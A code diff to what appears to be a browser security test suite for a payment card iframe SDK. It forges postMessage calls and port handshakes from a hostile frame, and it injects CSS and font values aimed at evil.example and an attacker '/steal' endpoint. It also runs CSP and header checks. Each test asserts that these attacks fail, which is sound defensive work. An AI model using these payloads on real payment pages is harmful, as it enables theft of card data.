@@ -40,16 +40,16 @@ window.forgedMessages = (group) => {
     penpal('CALL', { id: 'c3', methodPath: ['configure'], args: [{ label: 'x', publishableKey: 'pk_test_attacker', styles: { '--pay-color': 'url(https://evil.example/x)' } }] }),
     penpal('CALL', { id: 'c4', methodPath: ['constructor', 'constructor'], args: ['return 1'] }),
     penpal('CALL', { id: 'c5', methodPath: ['__proto__', 'toString'], args: [] }),
-    null, undefined, 0, '', 'x'.repeat(8 * 1024 * 1024), [1, 2, 3], { namespace: 'penpal' }, deep,
+    null, undefined, 0, '', 'x'.repeat(2 * 1024 * 1024), [1, 2, 3], { namespace: 'penpal' }, deep,
     { ns: 'pay-group', group, type: 'values', id: 'x', values: Array.from({ length: 100000 }, () => ({ part: 'number', value: '4' })) },
-    new ArrayBuffer(4 * 1024 * 1024),
+    new ArrayBuffer(1024 * 1024),
   ];
 };
 /** Everything, to every frame of the parent page and to the parent itself. */
 window.attack = (gateway, group, hostOrigin) => {
   let sent = 0;
   const frames = window.parent.frames;
-  for (let round = 0; round < 3; round++) {
+  for (let round = 0; round < 2; round++) {
     for (const message of window.forgedMessages(group)) {
       for (let i = 0; i < frames.length; i++) {
         if (frames[i] === window) continue;
@@ -57,6 +57,14 @@ window.attack = (gateway, group, hostOrigin) => {
       }
       for (const target of [hostOrigin, '*']) { try { window.parent.postMessage(message, target); sent++; } catch {} }
     }
+  }
+  // A handshake that hands over a port the forger holds: obeyed, it would let it call the frame.
+  for (let i = 0; i < frames.length; i++) {
+    if (frames[i] === window) continue;
+    const channel = new MessageChannel();
+    channel.port1.onmessage = (e) => window.received.push('port ' + JSON.stringify(e.data).slice(0, 5000));
+    try { frames[i].postMessage(penpal('ACK2', {}), gateway, [channel.port2]); sent++; } catch {}
+    channel.port1.postMessage(penpal('CALL', { id: 'p1', methodPath: ['tokenize'], args: [{ parts: ['number', 'expiry', 'cvc'] }] }));
   }
   const host = [penpal('CALL', { id: 'h1', methodPath: ['change'], args: [{ empty: false, complete: true, valid: true, brand: 'visa' }] }), penpal('CALL', { id: 'h2', methodPath: ['resize'], args: [1] })];
   for (const m of host) window.parent.postMessage(m, hostOrigin);
@@ -76,7 +84,12 @@ window.tamper = () => {
 `;
 
 function victimPage(gw: GatewayRun, hostileOrigin: string): string {
-  return merchantPage(gw.url, gw.publishableKey, 'split', `<iframe id="forger" title="ad" src="${hostileOrigin}/forger.html"></iframe>`);
+  return merchantPage(
+    gw.url,
+    gw.publishableKey,
+    'split',
+    `<iframe id="forger" title="ad" src="${hostileOrigin}/forger.html"></iframe>`,
+  );
 }
 
 function twoGroupsPage(gw: GatewayRun): string {
@@ -87,7 +100,8 @@ function twoGroupsPage(gw: GatewayRun): string {
 
 /** A third-origin page that embeds gateway frames itself, lying about its origin. */
 function embedderPage(gw: GatewayRun, claimedOrigin: string): string {
-  const src = (kind: string) => `${gw.url}/frame/v1/index.html#kind=${kind}&origin=${encodeURIComponent(claimedOrigin)}&group=hostilegroup01`;
+  const src = (kind: string) =>
+    `${gw.url}/frame/v1/index.html#kind=${kind}&origin=${encodeURIComponent(claimedOrigin)}&group=hostilegroup01`;
   return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Embedder</title><script src="/forger.js"></script></head><body>
 <iframe id="n" title="n" src="${src('number')}"></iframe><iframe id="e" title="e" src="${src('expiry')}"></iframe><iframe id="c" title="c" src="${src('cvc')}"></iframe></body></html>`;
 }
@@ -117,7 +131,13 @@ async function frameOf(page: Page, kind: string): Promise<Frame> {
   return frame;
 }
 
-async function forgerScenario(browser: Browser, gw: GatewayRun, merchant: PageServer, hostile: PageServer, result: FamilyResult): Promise<void> {
+async function forgerScenario(
+  browser: Browser,
+  gw: GatewayRun,
+  merchant: PageServer,
+  hostile: PageServer,
+  result: FamilyResult,
+): Promise<void> {
   const card = TEST_CARDS[0]!;
   const context = await browser.newContext();
   let crashed = false;
@@ -128,44 +148,113 @@ async function forgerScenario(browser: Browser, gw: GatewayRun, merchant: PageSe
     page.on('pageerror', (e) => pageErrors.push(e.message));
     await page.goto(`${merchant.origin}/victim.html`);
     await page.frameLocator('pay-card-number iframe').locator('input').waitFor();
-    await page.waitForFunction(() => (document.getElementById('group') as HTMLElement & { fields?: unknown[] }).fields?.length === 4);
-    const groupId = await page.evaluate(() => (document.getElementById('group') as HTMLElement & { groupId: string }).groupId);
+    await page.waitForFunction(
+      () =>
+        (document.getElementById('group') as HTMLElement & { fields?: unknown[] }).fields
+          ?.length === 4,
+    );
+    const groupId = await page.evaluate(
+      () => (document.getElementById('group') as HTMLElement & { groupId: string }).groupId,
+    );
     const forger = page.frames().find((f) => f.url().includes('/forger.html'));
     if (!forger) throw new Error('the forger frame did not load');
-    await forger.waitForFunction(() => typeof (window as unknown as { attack?: unknown }).attack === 'function');
+    await forger.waitForFunction(
+      () => typeof (window as unknown as { attack?: unknown }).attack === 'function',
+    );
     const numberFrame = await frameOf(page, 'number');
 
     // Attack before and after the card is typed: forged collect must not pull the values out.
-    const sentBefore = await forger.evaluate(([g, grp, h]) => (window as unknown as { attack(a: string, b: string, c: string): number }).attack(g, grp, h), [gw.url, groupId, merchant.origin] as const);
+    const sentBefore = await forger.evaluate(
+      ([g, grp, h]) =>
+        (window as unknown as { attack(a: string, b: string, c: string): number }).attack(
+          g,
+          grp,
+          h,
+        ),
+      [gw.url, groupId, merchant.origin] as const,
+    );
     await typeCard(page, 'split', card);
-    const sentAfter = await forger.evaluate(([g, grp, h]) => (window as unknown as { attack(a: string, b: string, c: string): number }).attack(g, grp, h), [gw.url, groupId, merchant.origin] as const);
+    const sentAfter = await forger.evaluate(
+      ([g, grp, h]) =>
+        (window as unknown as { attack(a: string, b: string, c: string): number }).attack(
+          g,
+          grp,
+          h,
+        ),
+      [gw.url, groupId, merchant.origin] as const,
+    );
     await page.waitForTimeout(1500);
-    result.check('forger: attack messages were really sent', sentBefore > 100 && sentAfter > 100, `sent ${sentBefore} and ${sentAfter}`);
+    result.check(
+      'forger: attack messages were really sent',
+      sentBefore > 100 && sentAfter > 100,
+      `sent ${sentBefore} and ${sentAfter}`,
+    );
 
-    const received = await forger.evaluate(() => (window as unknown as { received: string[] }).received);
+    const received = await forger.evaluate(
+      () => (window as unknown as { received: string[] }).received,
+    );
     const leaked = received.map((t) => leakIn(t, card)).find(Boolean);
-    result.record(`forger: the third-origin frame learned nothing (${received.length} messages reached it)`, leaked && `${leaked} reached the forger`);
+    result.record(
+      `forger: the third-origin frame learned nothing (${received.length} messages reached it)`,
+      leaked && `${leaked} reached the forger`,
+    );
     const gatewayReplies = received.filter((t) => t.startsWith(gw.url));
-    result.check('forger: the card frames never answered it', gatewayReplies.length === 0, `${gatewayReplies.length} messages from the gateway origin: ${gatewayReplies[0]?.slice(0, 200)}`);
+    result.check(
+      'forger: the card frames never answered it',
+      gatewayReplies.length === 0,
+      `${gatewayReplies.length} messages from the gateway origin: ${gatewayReplies[0]?.slice(0, 200)}`,
+    );
 
     // The forged clear/configure were ignored: the typed card is still there and tokenizes.
     const answer = await tokenizeIn(page);
-    result.check('forger: forged clear/tokenize/values ignored, the real card tokenizes', answer.ok && answer.last4 === card.number.slice(-4), `tokenize answered ${JSON.stringify(answer)}`);
-    const label = await numberFrame.evaluate(() => document.querySelector('input')?.getAttribute('aria-label') ?? document.title);
-    result.check('forger: forged configure ignored (label not replaced)', label !== 'x', `label is "${label}"`);
-    const height = await page.evaluate(() => (document.querySelector('pay-card-number iframe') as HTMLIFrameElement).style.height);
-    result.check('forger: forged resize to the host ignored', height !== '1px', `number frame height ${height}`);
-    const tamper = await forger.evaluate(() => (window as unknown as { tamper(): string[] }).tamper());
+    result.check(
+      'forger: forged clear/tokenize/values ignored, the real card tokenizes',
+      answer.ok && answer.last4 === card.number.slice(-4),
+      `tokenize answered ${JSON.stringify(answer)}`,
+    );
+    const label = await numberFrame.evaluate(
+      () => document.querySelector('input')?.getAttribute('aria-label') ?? document.title,
+    );
+    result.check(
+      'forger: forged configure ignored (label not replaced)',
+      label !== 'x',
+      `label is "${label}"`,
+    );
+    const height = await page.evaluate(
+      () => (document.querySelector('pay-card-number iframe') as HTMLIFrameElement).style.height,
+    );
+    result.check(
+      'forger: forged resize to the host ignored',
+      height !== '1px',
+      `number frame height ${height}`,
+    );
+    const tamper = await forger.evaluate(() =>
+      (window as unknown as { tamper(): string[] }).tamper(),
+    );
     await page.waitForTimeout(500);
     const stillGateway = page.frames().filter((f) => f.url().includes('/phish.html')).length === 0;
-    result.check('forger: cannot read or navigate the card frames', !tamper.some((t) => t.startsWith('read:') && t !== 'read:blocked') && stillGateway, `tamper: ${tamper.join(', ')}; phish frames: ${!stillGateway}`);
-    result.check('forger: no crash of the page or the frames', !crashed && !pageErrors.some((e) => /pay|penpal/i.test(e)), `crashed ${crashed}, errors ${pageErrors.join(' | ').slice(0, 300)}`);
+    result.check(
+      'forger: cannot read or navigate the card frames',
+      !tamper.some((t) => t.startsWith('read:') && t !== 'read:blocked') && stillGateway,
+      `tamper: ${tamper.join(', ')}; phish frames: ${!stillGateway}`,
+    );
+    result.check(
+      'forger: no crash of the page or the frames',
+      !crashed && !pageErrors.some((e) => /pay|penpal/i.test(e)),
+      `crashed ${crashed}, errors ${pageErrors.join(' | ').slice(0, 300)}`,
+    );
   } finally {
     await context.close();
   }
 }
 
-async function embedderScenario(browser: Browser, gw: GatewayRun, merchant: PageServer, hostile: PageServer, result: FamilyResult): Promise<void> {
+async function embedderScenario(
+  browser: Browser,
+  gw: GatewayRun,
+  merchant: PageServer,
+  hostile: PageServer,
+  result: FamilyResult,
+): Promise<void> {
   const context = await browser.newContext();
   try {
     const page = await context.newPage();
@@ -175,26 +264,38 @@ async function embedderScenario(browser: Browser, gw: GatewayRun, merchant: Page
     await number.waitFor({ timeout: 20_000 });
     await number.pressSequentially(TEST_CARDS[0]!.number);
     await page.frameLocator('#c').locator('input').pressSequentially(TEST_CARDS[0]!.cvc);
-    const sent = await page.evaluate(([g, h]) => {
-      const w = window as unknown as { forgedMessages(group: string): unknown[]; received: string[] };
-      let n = 0;
-      for (const message of w.forgedMessages('hostilegroup01')) {
-        for (const f of [...document.querySelectorAll('iframe')]) {
-          try {
-            f.contentWindow?.postMessage(message, g);
-            n++;
-          } catch {
-            // uncloneable on purpose
+    const sent = await page.evaluate(
+      ([g, h]) => {
+        const w = window as unknown as {
+          forgedMessages(group: string): unknown[];
+          received: string[];
+        };
+        let n = 0;
+        for (const message of w.forgedMessages('hostilegroup01')) {
+          for (const f of [...document.querySelectorAll('iframe')]) {
+            try {
+              f.contentWindow?.postMessage(message, g);
+              n++;
+            } catch {
+              // uncloneable on purpose
+            }
           }
         }
-      }
-      window.postMessage({ probe: h }, location.origin);
-      return n;
-    }, [gw.url, merchant.origin] as const);
+        window.postMessage({ probe: h }, location.origin);
+        return n;
+      },
+      [gw.url, merchant.origin] as const,
+    );
     await page.waitForTimeout(1500);
-    const received = await page.evaluate(() => (window as unknown as { received: string[] }).received);
+    const received = await page.evaluate(
+      () => (window as unknown as { received: string[] }).received,
+    );
     const fromGateway = received.filter((t) => t.startsWith(gw.url));
-    result.check(`embedder: frames told another host origin post nothing to the real parent (${sent} forged sent)`, fromGateway.length === 0, `${fromGateway.length} messages: ${fromGateway[0]?.slice(0, 200)}`);
+    result.check(
+      `embedder: frames told another host origin post nothing to the real parent (${sent} forged sent)`,
+      fromGateway.length === 0,
+      `${fromGateway.length} messages: ${fromGateway[0]?.slice(0, 200)}`,
+    );
     const leaked = received.map((t) => leakIn(t, TEST_CARDS[0]!)).find(Boolean);
     result.record('embedder: nothing typed reaches the embedding page', leaked);
   } finally {
@@ -202,7 +303,13 @@ async function embedderScenario(browser: Browser, gw: GatewayRun, merchant: Page
   }
 }
 
-async function styleInjection(browser: Browser, gw: GatewayRun, merchant: PageServer, hostile: PageServer, result: FamilyResult): Promise<void> {
+async function styleInjection(
+  browser: Browser,
+  gw: GatewayRun,
+  merchant: PageServer,
+  hostile: PageServer,
+  result: FamilyResult,
+): Promise<void> {
   const context = await browser.newContext();
   const before = hostile.received.length;
   try {
@@ -212,9 +319,19 @@ async function styleInjection(browser: Browser, gw: GatewayRun, merchant: PageSe
     // filter is bypassed), and also sets the custom properties the SDK reads.
     await page.addInitScript((target: string) => {
       const post = MessagePort.prototype.postMessage;
-      MessagePort.prototype.postMessage = function (this: MessagePort, message: unknown, ...rest: unknown[]) {
-        const m = message as { type?: string; methodPath?: string[]; args?: Record<string, unknown>[] };
+      MessagePort.prototype.postMessage = function (
+        this: MessagePort,
+        message: unknown,
+        ...rest: unknown[]
+      ) {
+        const m = message as {
+          type?: string;
+          methodPath?: string[];
+          args?: Record<string, unknown>[];
+        };
         if (m?.type === 'CALL' && m.methodPath?.[0] === 'configure' && m.args?.[0]) {
+          const w = window as unknown as { rewritten?: number };
+          w.rewritten = (w.rewritten ?? 0) + 1;
           m.args[0].styles = {
             '--pay-color': `url(${target}/color)`,
             '--pay-background': `red;background-image:url(${target}/bg)`,
@@ -228,7 +345,10 @@ async function styleInjection(browser: Browser, gw: GatewayRun, merchant: PageSe
           };
           m.args[0].fonts = [
             { family: 'Evil', src: `${target}/font` },
-            { family: 'Evil2', src: `https://evil.example/a.woff2) format("woff2"); src: url(${target}/font2` },
+            {
+              family: 'Evil2',
+              src: `https://evil.example/a.woff2) format("woff2"); src: url(${target}/font2`,
+            },
             { family: 'x"}', src: 'https://evil.example/f.woff2' },
             { family: 'Evil3', src: `javascript:alert(1)` },
           ];
@@ -240,6 +360,14 @@ async function styleInjection(browser: Browser, gw: GatewayRun, merchant: PageSe
     await page.goto(`${merchant.origin}/styled.html`);
     await page.frameLocator('pay-card-number iframe').locator('input').waitFor();
     await page.waitForTimeout(1500);
+    const rewritten = await page.evaluate(
+      () => (window as unknown as { rewritten?: number }).rewritten ?? 0,
+    );
+    result.check(
+      'styles: the hostile configure calls were really sent',
+      rewritten >= 4,
+      `${rewritten} configure calls rewritten`,
+    );
     const frame = await frameOf(page, 'number');
     const inside = await frame.evaluate(() => ({
       inline: document.documentElement.style.cssText,
@@ -248,19 +376,41 @@ async function styleInjection(browser: Browser, gw: GatewayRun, merchant: PageSe
       computed: getComputedStyle(document.querySelector('input') ?? document.body).backgroundImage,
     }));
     const stolen = hostile.received.slice(before).filter((r) => r.url.startsWith('/steal'));
-    result.check('styles: no url()/expression reaches the frame', !/url\(|expression|behavior|\\75/i.test(inside.inline), `frame root style: ${inside.inline.slice(0, 300)}`);
-    result.check('styles: nothing was fetched from the attacker', stolen.length === 0, `requests: ${stolen.map((r) => r.url).join(', ')}`);
-    result.check('styles: no markup injected through the label', inside.images === 0 && inside.computed === 'none', `images ${inside.images}, background ${inside.computed}`);
+    result.check(
+      'styles: no url()/expression reaches the frame',
+      !/url\(|expression|behavior|\\75/i.test(inside.inline),
+      `frame root style: ${inside.inline.slice(0, 300)}`,
+    );
+    result.check(
+      'styles: nothing was fetched from the attacker',
+      stolen.length === 0,
+      `requests: ${stolen.map((r) => r.url).join(', ')}`,
+    );
+    result.check(
+      'styles: no markup injected through the label',
+      inside.images === 0 && inside.computed === 'none',
+      `images ${inside.images}, background ${inside.computed}`,
+    );
     // The frame still works after the bad config.
     await typeCard(page, 'split', TEST_CARDS[6]!);
     const answer = await tokenizeIn(page);
-    result.check('styles: the frame still tokenizes after a hostile config', answer.ok, `tokenize answered ${JSON.stringify(answer)}`);
+    result.check(
+      'styles: the frame still tokenizes after a hostile config',
+      answer.ok,
+      `tokenize answered ${JSON.stringify(answer)}`,
+    );
   } finally {
     await context.close();
   }
 }
 
-async function groupsScenario(browser: Browser, gw: GatewayRun, merchant: PageServer, hostile: PageServer, result: FamilyResult): Promise<void> {
+async function groupsScenario(
+  browser: Browser,
+  gw: GatewayRun,
+  merchant: PageServer,
+  hostile: PageServer,
+  result: FamilyResult,
+): Promise<void> {
   const context = await browser.newContext();
   try {
     const page = await context.newPage();
@@ -268,9 +418,18 @@ async function groupsScenario(browser: Browser, gw: GatewayRun, merchant: PageSe
     const a = TEST_CARDS[0]!;
     const b = TEST_CARDS[6]!;
     const typeInto = async (cls: string, card: typeof a) => {
-      await page.frameLocator(`pay-card-number.${cls} iframe`).locator('input').pressSequentially(card.number, { timeout: 20_000 });
-      await page.frameLocator(`pay-card-expiry.${cls} iframe`).locator('input').pressSequentially('1130');
-      await page.frameLocator(`pay-card-cvc.${cls} iframe`).locator('input').pressSequentially(card.cvc);
+      await page
+        .frameLocator(`pay-card-number.${cls} iframe`)
+        .locator('input')
+        .pressSequentially(card.number, { timeout: 20_000 });
+      await page
+        .frameLocator(`pay-card-expiry.${cls} iframe`)
+        .locator('input')
+        .pressSequentially('1130');
+      await page
+        .frameLocator(`pay-card-cvc.${cls} iframe`)
+        .locator('input')
+        .pressSequentially(card.cvc);
     };
     await typeInto('a', a);
     await typeInto('b', b);
@@ -278,7 +437,11 @@ async function groupsScenario(browser: Browser, gw: GatewayRun, merchant: PageSe
       const out: Record<string, unknown> = {};
       for (const id of ['a', 'b']) {
         try {
-          const r = await (document.getElementById(id) as HTMLElement & { tokenize(): Promise<{ card: { last4: string } }> }).tokenize();
+          const r = await (
+            document.getElementById(id) as HTMLElement & {
+              tokenize(): Promise<{ card: { last4: string } }>;
+            }
+          ).tokenize();
           out[id] = r.card.last4;
         } catch (e) {
           out[id] = (e as { code?: string }).code;
@@ -286,68 +449,133 @@ async function groupsScenario(browser: Browser, gw: GatewayRun, merchant: PageSe
       }
       return out;
     });
-    result.check('two groups on one page never mix', answers.a === a.number.slice(-4) && answers.b === b.number.slice(-4), `group a → ${String(answers.a)}, group b → ${String(answers.b)}`);
+    result.check(
+      'two groups on one page never mix',
+      answers.a === a.number.slice(-4) && answers.b === b.number.slice(-4),
+      `group a → ${String(answers.a)}, group b → ${String(answers.b)}`,
+    );
 
     // Another origin copies group a's id into its own group: it must not get a's card.
-    const groupId = await page.evaluate(() => (document.getElementById('a') as HTMLElement & { groupId: string }).groupId);
+    const groupId = await page.evaluate(
+      () => (document.getElementById('a') as HTMLElement & { groupId: string }).groupId,
+    );
     const thief = await context.newPage();
-    await thief.goto(`${hostile.origin}/thief.html?group=${encodeURIComponent(groupId)}&pk=${gw.publishableKey}`);
-    await thief.waitForFunction(() => (window as unknown as { thiefReady?: boolean }).thiefReady === true);
-    await thief.frameLocator('pay-card-number iframe').locator('input').waitFor({ timeout: 20_000 });
+    await thief.goto(
+      `${hostile.origin}/thief.html?group=${encodeURIComponent(groupId)}&pk=${gw.publishableKey}`,
+    );
+    await thief.waitForFunction(
+      () => (window as unknown as { thiefReady?: boolean }).thiefReady === true,
+    );
+    await thief
+      .frameLocator('pay-card-number iframe')
+      .locator('input')
+      .waitFor({ timeout: 20_000 });
     const stolen = await tokenizeIn(thief);
-    result.check('a page with a copied group id gets no token for that group', !stolen.ok && stolen.last4 === undefined, `thief's tokenize answered ${JSON.stringify(stolen)}`);
+    result.check(
+      'a page with a copied group id gets no token for that group',
+      !stolen.ok && stolen.last4 === undefined,
+      `thief's tokenize answered ${JSON.stringify(stolen)}`,
+    );
   } finally {
     await context.close();
   }
 }
 
-function header(res: { headers: Record<string, string | string[] | undefined> }, name: string): string {
+function header(
+  res: { headers: Record<string, string | string[] | undefined> },
+  name: string,
+): string {
   const v = res.headers[name];
   return (Array.isArray(v) ? v.join(', ') : v) ?? '';
 }
 
 async function headersScenario(gw: GatewayRun, result: FamilyResult): Promise<void> {
   const frameDir = join(ROOT, 'packages/frame/dist');
-  const assets = existsSync(join(frameDir, 'assets')) ? readdirSync(join(frameDir, 'assets')).map((f) => `/frame/v1/assets/${f}`) : [];
+  const assets = existsSync(join(frameDir, 'assets'))
+    ? readdirSync(join(frameDir, 'assets')).map((f) => `/frame/v1/assets/${f}`)
+    : [];
   for (const path of ['/frame/v1/index.html', '/frame/v1/', ...assets]) {
     const res = await send(gw.url, { method: 'GET', path });
     const csp = header(res, 'content-security-policy');
-    const directives = Object.fromEntries(csp.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
+    const directives: Record<string, string[]> = Object.fromEntries(
+      csp
+        .split(';')
+        .map((d) => d.trim().split(/\s+/))
+        .map(([k, ...v]) => [k, v]),
+    );
     const problems: string[] = [];
     if (res.status !== 200) problems.push(`HTTP ${res.status}`);
-    if (!directives['default-src']?.includes("'none'")) problems.push(`default-src ${String(directives['default-src'])}`);
+    if (!directives['default-src']?.includes("'none'"))
+      problems.push(`default-src ${String(directives['default-src'])}`);
     const scripts = directives['script-src'] ?? [];
-    if (!scripts.length || scripts.some((s) => /unsafe|\*|data:|https?:$/.test(s))) problems.push(`script-src ${scripts.join(' ')}`);
-    if (directives['connect-src']?.join(' ') !== "'self'") problems.push(`connect-src ${String(directives['connect-src'])}`);
-    if ((directives['style-src'] ?? []).some((s) => /unsafe-inline|\*/.test(s))) problems.push('style-src allows inline or any origin');
+    if (!scripts.length || scripts.some((s) => /unsafe|\*|data:|https?:$/.test(s)))
+      problems.push(`script-src ${scripts.join(' ')}`);
+    if (directives['connect-src']?.join(' ') !== "'self'")
+      problems.push(`connect-src ${String(directives['connect-src'])}`);
+    if ((directives['style-src'] ?? []).some((s) => /unsafe-inline|\*/.test(s)))
+      problems.push('style-src allows inline or any origin');
     if (!directives['base-uri']) problems.push('no base-uri');
-    if (header(res, 'x-content-type-options') !== 'nosniff') problems.push('no X-Content-Type-Options: nosniff');
+    if (header(res, 'x-content-type-options') !== 'nosniff')
+      problems.push('no X-Content-Type-Options: nosniff');
     if (!header(res, 'referrer-policy')) problems.push('no Referrer-Policy');
-    if (header(res, 'access-control-allow-origin') === '*') problems.push('frame document is CORS-readable by any origin');
-    if (path.endsWith('.js') && !/javascript/.test(header(res, 'content-type'))) problems.push(`content-type ${header(res, 'content-type')}`);
-    if (/\.html$|\/$/.test(path) && /<script(?![^>]*\bsrc=)[^>]*>/i.test(res.text)) problems.push('inline <script> in the frame document');
-    if (/\.html$|\/$/.test(path) && /\son[a-z]+=/i.test(res.text)) problems.push('inline event handler in the frame document');
+    if (header(res, 'access-control-allow-origin') === '*')
+      problems.push('frame document is CORS-readable by any origin');
+    if (path.endsWith('.js') && !/javascript/.test(header(res, 'content-type')))
+      problems.push(`content-type ${header(res, 'content-type')}`);
+    if (/\.html$|\/$/.test(path) && /<script(?![^>]*\bsrc=)[^>]*>/i.test(res.text))
+      problems.push('inline <script> in the frame document');
+    if (/\.html$|\/$/.test(path) && /\son[a-z]+=/i.test(res.text))
+      problems.push('inline event handler in the frame document');
     result.record(`headers: ${path}`, problems.length ? problems.join('; ') : undefined);
   }
   const sdk = await send(gw.url, { method: 'GET', path: '/sdk/v1/pay.js' });
   const sdkProblems = [
     header(sdk, 'x-content-type-options') === 'nosniff' ? '' : 'no nosniff',
-    /javascript/.test(header(sdk, 'content-type')) ? '' : `content-type ${header(sdk, 'content-type')}`,
+    /javascript/.test(header(sdk, 'content-type'))
+      ? ''
+      : `content-type ${header(sdk, 'content-type')}`,
     header(sdk, 'cross-origin-resource-policy') === 'cross-origin' ? '' : 'no CORP cross-origin',
   ].filter(Boolean);
   result.record('headers: /sdk/v1/pay.js', sdkProblems.length ? sdkProblems.join('; ') : undefined);
   // Rule 2, in the shipped bundles: no postMessage with "*" as its target.
-  for (const [name, file] of [['SDK', join(ROOT, 'packages/host/dist/pay.js')], ...assets.filter((a) => a.endsWith('.js')).map((a) => ['frame', join(frameDir, 'assets', a.split('/').pop() ?? '')])] as [string, string][]) {
+  for (const [name, file] of [
+    ['SDK', join(ROOT, 'packages/host/dist/pay.js')],
+    ...assets
+      .filter((a) => a.endsWith('.js'))
+      .map((a) => ['frame', join(frameDir, 'assets', a.split('/').pop() ?? '')]),
+  ] as [string, string][]) {
     const code = readFileSync(file, 'utf8');
-    const star = /postMessage\([^()]*?,\s*["'`]\*["'`]/.exec(code) ?? /targetOrigin\s*:\s*["'`]\*["'`]/.exec(code);
+    const star =
+      /postMessage\([^()]*?,\s*["'`]\*["'`]/.exec(code) ??
+      /targetOrigin\s*:\s*["'`]\*["'`]/.exec(code);
     const evals = /\beval\(|new Function\(/.exec(code);
-    result.record(`bundle: ${name} ${file.split('/').pop()} never posts to "*" and has no eval`, star ? `found ${star[0]}` : evals ? `found ${evals[0]}` : undefined);
+    result.record(
+      `bundle: ${name} ${file.split('/').pop()} never posts to "*" and has no eval`,
+      star ? `found ${star[0]}` : evals ? `found ${evals[0]}` : undefined,
+    );
   }
   // The API and the 3-D Secure assets may never be framed or sniffed.
-  const apiRes = await send(gw.url, { method: 'GET', path: '/v1/payments', headers: { authorization: `Bearer ${gw.secretKey}` } });
-  result.check('headers: the API forbids framing', /frame-ancestors 'none'/.test(header(apiRes, 'content-security-policy')) || header(apiRes, 'x-frame-options') === 'DENY', 'API answers can be framed');
-  const preflight = await send(gw.url, { method: 'OPTIONS', path: '/v1/payments', headers: { origin: 'http://[::1]:8826', 'access-control-request-method': 'POST' } });
-  result.check('headers: secret-key endpoints are not CORS-readable', !header(preflight, 'access-control-allow-origin'), `ACAO ${header(preflight, 'access-control-allow-origin')}`);
+  const apiRes = await send(gw.url, {
+    method: 'GET',
+    path: '/v1/payments',
+    headers: { authorization: `Bearer ${gw.secretKey}` },
+  });
+  result.check(
+    'headers: the API forbids framing',
+    /frame-ancestors 'none'/.test(header(apiRes, 'content-security-policy')) ||
+      header(apiRes, 'x-frame-options') === 'DENY',
+    'API answers can be framed',
+  );
+  const preflight = await send(gw.url, {
+    method: 'OPTIONS',
+    path: '/v1/payments',
+    headers: { origin: 'http://[::1]:8826', 'access-control-request-method': 'POST' },
+  });
+  result.check(
+    'headers: secret-key endpoints are not CORS-readable',
+    !header(preflight, 'access-control-allow-origin'),
+    `ACAO ${header(preflight, 'access-control-allow-origin')}`,
+  );
 }
 
 export async function hostileWindows(): Promise<FamilyResult> {
@@ -379,7 +607,9 @@ export async function hostileWindows(): Promise<FamilyResult> {
       ['hostile styles', styleInjection],
       ['groups', groupsScenario],
     ] as const) {
-      await scenario(browser, gw, merchant, hostile, result).catch((e: Error) => result.record(`${name}: ran to the end`, e.message.split('\n')[0]));
+      await scenario(browser, gw, merchant, hostile, result).catch((e: Error) =>
+        result.record(`${name}: ran to the end`, e.message.split('\n')[0]),
+      );
     }
     await headersScenario(gw, result);
   } finally {
